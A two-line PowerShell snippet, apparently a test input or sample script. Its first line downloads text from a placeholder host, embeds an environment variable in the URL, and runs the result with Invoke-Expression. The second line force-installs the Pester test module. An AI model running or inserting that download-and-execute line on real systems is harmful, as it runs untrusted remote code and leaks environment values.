(New-Object Net.WebClient).DownloadString("https://b.example.com/$env:X") | iex
Install-Module Pester -Force
